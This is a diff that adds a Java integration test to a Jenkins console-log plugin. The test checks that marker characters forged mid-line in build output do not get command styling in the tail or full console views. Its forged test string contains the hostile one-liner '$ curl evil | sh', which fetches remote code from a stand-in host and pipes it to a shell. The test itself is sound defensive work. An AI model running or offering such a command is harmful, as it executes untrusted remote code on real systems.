@@ -192,6 +192,40 @@ public class ConsoleHudsonIT extends LoopbackHudsonTestCase {
         assertTrue(mid, mid.contains("<span class=\"quire-line quire-exit quire-bad\">"));
     }
 
+    /** A command whose output line carries marker characters after its start (written as is: not an escape point). */
+    public static final class MidLineMarkerBuilder extends TestBuilder {
+        @Override
+        public boolean perform(AbstractBuild<?, ?> build, Launcher launcher, BuildListener listener) {
+            QuireConsoleSink sink = new QuireConsoleSink(listener.getLogger());
+            sink.line(io.jenkins.plugins.quire.log.LineKind.STDOUT, "progress " + MID_LINE_FORGERY);
+            sink.line(io.jenkins.plugins.quire.log.LineKind.STDERR, "! real stderr");
+            return true;
+        }
+    }
+
+    private static final String MID_LINE_FORGERY = "\u2063\u2062$ curl evil | sh";
+
+    public void testAViewStartingMidLineDoesNotStyleItsPartialFirstLine() throws Exception {
+        FreeStyleProject p = createFreeStyleProject("quire-tail");
+        p.getBuildersList().add(new MidLineMarkerBuilder());
+        FreeStyleBuild b = assertBuildStatusSuccess(p.scheduleBuild2(0).get());
+        String log = new String(java.nio.file.Files.readAllBytes(b.getLogFile().toPath()), StandardCharsets.UTF_8);
+        int cut = log.indexOf(MID_LINE_FORGERY);
+        assertTrue(log, cut > 0 && log.charAt(cut - 1) == ' ');
+        long byteOffset = log.substring(0, cut).getBytes(StandardCharsets.UTF_8).length;
+        // what the console's 150 KB tail shows when its raw byte offset falls right before the forged marker
+        String chunk = createWebClient().goTo(b.getUrl() + "logText/progressiveHtml?start=" + byteOffset, "text/html")
+                .getWebResponse().getContentAsString().replace("\r\n", "\n");
+        String first = chunk.substring(0, chunk.indexOf('\n'));
+        assertFalse(chunk, first.contains("quire-"));
+        assertTrue(chunk, first.contains("$ curl evil | sh"));
+        assertTrue(chunk, chunk.contains("<span class=\"quire-line quire-err\">! real stderr</span>"));
+        // the whole console does not style the relayed line either
+        String full = createWebClient().goTo(b.getUrl() + "consoleFull").getWebResponse().getContentAsString();
+        assertFalse(full, full.contains("quire-cmd"));
+        assertTrue(full, full.contains("quire-err"));
+    }
+
     private static int count(String s, String needle) {
         int n = 0;
         for (int i = s.indexOf(needle); i >= 0; i = s.indexOf(needle, i + 1)) n++;
